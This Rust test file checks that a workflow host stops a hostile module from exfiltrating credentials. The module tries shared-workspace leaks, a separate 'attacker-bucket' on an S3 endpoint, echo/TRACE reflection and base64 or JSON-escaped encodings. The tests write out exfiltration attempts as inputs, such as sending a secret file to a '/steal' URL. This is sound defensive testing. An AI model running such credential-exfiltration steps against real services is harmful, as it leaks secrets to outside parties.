//! Hostile modules that try to get a secret out of its service (issue 18, items 6-9):
//! through the shared workspace to a later step, through another bucket of the same S3
//! endpoint, through an echo endpoint that reflects the credential the host attached,
//! and through encodings (JSON escapes, base64) a textual redaction misses. Each is
//! stopped; after each, the next step on the same host runs normally. In-process, on
//! one host, with a real store, a real S3 server (s3s-fs) and real HTTP servers.

use axum::http::HeaderMap;
use base64::Engine;
use flow8_host::components::{self, NewComponent};
use flow8_host::config::HostConfig;
use flow8_host::runtime::{StepReport, StepRequest};
use flow8_host::store::Store;
use flow8_tests::RecordingServer;
use flow8_tests::s3_server::{ACCESS_KEY_ID, S3Server, SECRET_ACCESS_KEY};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};

const COMPANY: &str = "company-a";
const SECRET: &str = "Bearer egress-canary-7c41a9";

struct Host {
    host: flow8_host::app::Host,
    _data: tempfile::TempDir,
}

/// A host (loopback allowed) whose store holds an http component `api` at `api_base`
/// and, when given, an S3 component `s3` of bucket `flow8-artifacts` on `s3_endpoint`.
async fn host(api_base: &str, s3_endpoint: Option<&str>) -> Host {
    let data = tempfile::tempdir().unwrap();
    let mut config = HostConfig::default();
    config.outbound.allow_loopback = true;
    let host = flow8_tests::in_process_host(config, data.path()).await;
    let mut new = vec![json!({
        "name": "api", "kind": "http",
        "config": {"provider": "http", "base_url": api_base, "auth_value": SECRET}
    })];
    if let Some(endpoint) = s3_endpoint {
        new.push(json!({
            "name": "s3", "kind": "storage",
            "config": {"provider": "s3", "bucket": "flow8-artifacts", "endpoint": endpoint,
                       "path_style": true, "access_key_id": ACCESS_KEY_ID,
                       "secret_access_key": SECRET_ACCESS_KEY}
        }));
    }
    for n in new {
        let n: NewComponent = serde_json::from_value(n).unwrap();
        host.store
            .insert_component(
                components::prepare(n, COMPANY, &host.vault, host.modules.catalogue()).unwrap(),
            )
            .await
            .unwrap();
    }
    Host { host, _data: data }
}

/// One step of the hostile module.
struct Step {
    input: Value,
    bind: &'static [&'static str],
    workspace: Option<PathBuf>,
    pinned_to: Vec<flow8_host::runtime::policy::Taint>,
}

fn step(input: Value) -> Step {
    Step {
        input,
        bind: &[],
        workspace: None,
        pinned_to: Vec::new(),
    }
}

impl Host {
    async fn run(&self, s: Step) -> StepReport {
        let bindings: BTreeMap<String, String> = s
            .bind
            .iter()
            .map(|b| (b.to_string(), b.to_string()))
            .collect();
        self.host
            .runtime
            .run_step(StepRequest {
                company_id: COMPANY.into(),
                module_ref: "hostile".into(),
                input: s.input,
                bindings,
                limits: None,
                workspace: s.workspace,
                pinned_to: s.pinned_to,
            })
            .await
    }

    /// The host still serves a normal step, one that reaches `url` freely.
    async fn assert_healthy(&self, url: &str) {
        let r = self.run(step(json!({"attack": "http", "url": url}))).await;
        assert!(!r.tainted, "{r:?}");
        let out = r.result.expect("a normal step after an attack");
        assert_eq!(out["status"], 200, "{out}");
    }
}

fn output(r: &StepReport) -> &Value {
    r.result.as_ref().unwrap_or_else(|e| panic!("{e:?}"))
}

/// Item 6: step 1 reads a secret and writes it into the shared workspace; step 2, with
/// no credential bound, tries to send the file elsewhere. The workspace carries the
/// taint, and so does the report (for flow8's `input_mapping`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_left_in_the_workspace_stays_pinned_in_later_steps() {
    let api = RecordingServer::start();
    let elsewhere = RecordingServer::start();
    let h = host(&api.url(""), None).await;
    let ws = tempfile::tempdir().unwrap();

    let r1 = h
        .run(Step {
            bind: &["api"],
            workspace: Some(ws.path().to_path_buf()),
            ..step(json!({"attack": "secret_to_file", "binding": "api", "path": "/leak.txt"}))
        })
        .await;
    assert_eq!(output(&r1)["written"], "/leak.txt", "{r1:?}");
    assert!(r1.tainted, "{r1:?}");
    let report = serde_json::to_value(&r1).unwrap();
    assert_eq!(report["tainted"], true);
    assert_eq!(
        report["pinned_to"],
        json!([{"credential": "api", "service": "http", "pins": [api.url("")]}]),
        "{report}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join("leak.txt")).unwrap(),
        SECRET
    );

    // Step 2: same workspace, nothing bound.
    let leak =
        json!({"attack": "file_to_url", "path": "/leak.txt", "url": elsewhere.url("/steal")});
    let r2 = h
        .run(Step {
            workspace: Some(ws.path().to_path_buf()),
            ..step(leak.clone())
        })
        .await;
    let out = output(&r2);
    assert_eq!(out["sent"]["error"]["kind"], "forbidden", "{out}");
    assert!(
        out["sent"]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("derived from credential `api` (http) of an earlier step"),
        "{out}"
    );
    assert!(r2.tainted && r2.pinned_to == r1.pinned_to, "{r2:?}");
    // Its own service is still in reach for data derived from it.
    let r = h
        .run(Step {
            workspace: Some(ws.path().to_path_buf()),
            ..step(json!({"attack": "file_to_url", "path": "/leak.txt", "url": api.url("/back")}))
        })
        .await;
    assert_eq!(output(&r)["sent"]["status"], 200, "{r:?}");

    // The taint also follows the output: flow8 hands the report's `pinned_to` to the
    // step whose input is mapped from it.
    let r3 = h
        .run(Step {
            pinned_to: r1.pinned_to.clone(),
            ..step(json!({"attack": "http", "url": elsewhere.url("/steal")}))
        })
        .await;
    assert_eq!(output(&r3)["error"]["kind"], "forbidden", "{r3:?}");
    assert!(r3.tainted, "{r3:?}");
    assert!(
        elsewhere.requests().is_empty(),
        "the secret reached another server: {:?}",
        elsewhere.requests()
    );

    // Another workspace, and no carried taint: the same attack runs as any step does.
    let clean = tempfile::tempdir().unwrap();
    std::fs::write(clean.path().join("leak.txt"), "nothing secret").unwrap();
    let r = h
        .run(Step {
            workspace: Some(clean.path().to_path_buf()),
            ..step(leak)
        })
        .await;
    assert_eq!(output(&r)["sent"]["status"], 200, "{r:?}");
    assert!(!r.tainted);
    h.assert_healthy(&elsewhere.url("/ok")).await;
}

/// Item 7, against a real S3 server: the host signs only for the component's bucket,
/// whether the module names another bucket for an upload, asks the host to sign a
/// request to one, or reads the keys and sends them to another bucket on the endpoint.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_s3_component_signs_only_for_its_own_bucket() {
    let s3 = S3Server::start(&["flow8-artifacts", "attacker-bucket"]);
    let h = host("http://127.0.0.1:9", Some(&s3.endpoint())).await;
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("f.txt"), "invoice").unwrap();
    let in_ws = |input: Value| Step {
        bind: &["s3"],
        workspace: Some(ws.path().to_path_buf()),
        ..step(input)
    };

    // An upload to another bucket.
    let r = h
        .run(in_ws(json!({"attack": "s3_put", "bucket": "attacker-bucket", "key": "k.txt", "file_path": "f.txt"})))
        .await;
    let out = output(&r);
    assert_eq!(out["error"]["kind"], "forbidden", "{out}");
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap()
            .contains("is for bucket `flow8-artifacts`"),
        "{out}"
    );
    assert!(!s3.object_path("attacker-bucket", "k.txt").exists());

    // A request the host would sign, to another bucket on the same endpoint.
    let r = h
        .run(in_ws(
            json!({"attack": "http", "method": "PUT", "credential": "s3",
            "url": format!("{}/attacker-bucket/signed.txt", s3.endpoint()), "body": "stolen"}),
        ))
        .await;
    assert_eq!(output(&r)["error"]["kind"], "forbidden", "{r:?}");
    assert!(!s3.object_path("attacker-bucket", "signed.txt").exists());

    // The keys read, then sent to another bucket on the same endpoint.
    let r = h
        .run(in_ws(json!({"attack": "get_credential", "binding": "s3",
            "send_to": format!("{}/attacker-bucket/keys.txt", s3.endpoint())})))
        .await;
    let out = output(&r);
    assert_eq!(out["sent"]["error"]["kind"], "forbidden", "{out}");
    assert!(
        out["sent"]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("this step read credential `s3`"),
        "{out}"
    );

    // The component's own bucket still works, by upload and by a signed request.
    let clean = tempfile::tempdir().unwrap();
    std::fs::write(clean.path().join("f.txt"), "invoice").unwrap();
    let r = h
        .run(Step {
            bind: &["s3"],
            workspace: Some(clean.path().to_path_buf()),
            ..step(json!({"attack": "s3_put", "key": "own.txt", "file_path": "f.txt"}))
        })
        .await;
    assert_eq!(output(&r)["size"], 7, "{r:?}");
    assert!(s3.object_path("flow8-artifacts", "own.txt").exists());
    let r = h
        .run(Step {
            bind: &["s3"],
            ..step(
                json!({"attack": "http", "method": "PUT", "credential": "s3",
                "url": format!("{}/flow8-artifacts/signed.txt", s3.endpoint()), "body": "ours"}),
            )
        })
        .await;
    assert_eq!(output(&r)["status"], 200, "{r:?}");
    assert_eq!(
        std::fs::read_to_string(s3.object_path("flow8-artifacts", "signed.txt")).unwrap(),
        "ours"
    );
    let elsewhere = RecordingServer::start();
    h.assert_healthy(&elsewhere.url("/ok")).await;
}

/// An HTTP server that answers every request with the request's own headers, as text
/// (or, under `/b64`, base64 of that text): the echo and debug endpoints real APIs
/// have. Counts what it answered.
struct EchoServer {
    url: String,
    seen: Arc<Mutex<Vec<String>>>,
}

async fn echo_server() -> EchoServer {
    let seen: Arc<Mutex<Vec<String>>> = Arc::default();
    let log = seen.clone();
    let app = axum::Router::new().fallback(
        move |method: axum::http::Method, uri: axum::http::Uri, headers: HeaderMap| {
            let log = log.clone();
            async move {
                log.lock().unwrap().push(format!("{method} {uri}"));
                let text: String = headers
                    .iter()
                    .map(|(k, v)| format!("{k}: {}\n", String::from_utf8_lossy(v.as_bytes())))
                    .collect();
                if uri.path().starts_with("/b64") {
                    base64::engine::general_purpose::STANDARD.encode(text)
                } else {
                    text
                }
            }
        },
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    EchoServer { url, seen }
}

/// Item 8: TRACE is refused, and a secret an echo endpoint reflects (plain or base64)
/// confines the step as if the module had read it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reflected_secret_cannot_be_forwarded() {
    let echo = echo_server().await;
    let elsewhere = RecordingServer::start();
    let h = host(&echo.url, None).await;
    let forward = |method: &str, path: &str| Step {
        bind: &["api"],
        ..step(
            json!({"attack": "echo_then_forward", "method": method, "credential": "api",
            "url": format!("{}{path}", echo.url), "forward_to": elsewhere.url("/steal")}),
        )
    };

    for method in ["TRACE", "track", "CONNECT"] {
        let r = h.run(forward(method, "/")).await;
        let out = output(&r);
        assert_eq!(out["echo"]["error"]["kind"], "forbidden", "{method}: {out}");
        assert!(
            out["echo"]["error"]["message"]
                .as_str()
                .unwrap()
                .contains("is refused"),
            "{out}"
        );
    }
    assert!(echo.seen.lock().unwrap().is_empty(), "{:?}", echo.seen);

    for path in ["/debug", "/b64/debug"] {
        let r = h.run(forward("GET", path)).await;
        let out = output(&r);
        assert_eq!(
            out["forwarded"]["error"]["kind"], "forbidden",
            "{path}: {out}"
        );
        assert!(
            out["forwarded"]["error"]["message"]
                .as_str()
                .unwrap()
                .contains("a response returned to this step credential `api`"),
            "{out}"
        );
        // What came back is redacted in the report too.
        assert!(!out.to_string().contains("egress-canary"), "{out}");
        assert!(r.tainted, "{r:?}");
        assert!(
            r.credentials_used.iter().any(|u| u.how == "reflected"),
            "{:?}",
            r.credentials_used
        );
    }
    assert_eq!(echo.seen.lock().unwrap().len(), 2);
    assert!(
        elsewhere.requests().is_empty(),
        "the reflected secret reached another server"
    );
    h.assert_healthy(&elsewhere.url("/ok")).await;
}

/// Item 9: the secret in JSON escapes in the output text, as an object key, in base64,
/// in the log and in an error message: all redacted. A secret too short to redact
/// safely is refused when the component is created.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn encoded_secrets_are_redacted_after_parsing() {
    let elsewhere = RecordingServer::start();
    let h = host("http://127.0.0.1:9", None).await;
    let r = h
        .run(Step {
            bind: &["api"],
            ..step(json!({"attack": "leak_encoded", "binding": "api"}))
        })
        .await;
    let out = output(&r);
    assert_eq!(
        *out,
        json!({"escaped": "***", "***": true, "b64": "***"}),
        "{out}"
    );
    let log: Vec<&str> = r.log.iter().map(|l| l.message.as_str()).collect();
    assert_eq!(
        log,
        ["b64 ***", "escaped ***", "stdout escaped ***"],
        "{log:?}"
    );

    let r = h
        .run(Step {
            bind: &["api"],
            ..step(json!({"attack": "leak_encoded", "binding": "api", "as_error": true}))
        })
        .await;
    let e = r.result.as_ref().unwrap_err();
    assert_eq!(e.message, "cannot use ***", "{e:?}");

    // Too short to tell from text: refused at creation (the API's path too).
    let short: NewComponent = serde_json::from_value(json!({"name": "short", "kind": "http",
        "config": {"provider": "http", "base_url": "https://api.example.com", "auth_value": "abc12"}}))
    .unwrap();
    let err = components::prepare(short, COMPANY, &h.host.vault, h.host.modules.catalogue())
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("auth_value") && err.contains("at least 6"),
        "{err}"
    );
    h.assert_healthy(&elsewhere.url("/ok")).await;
}
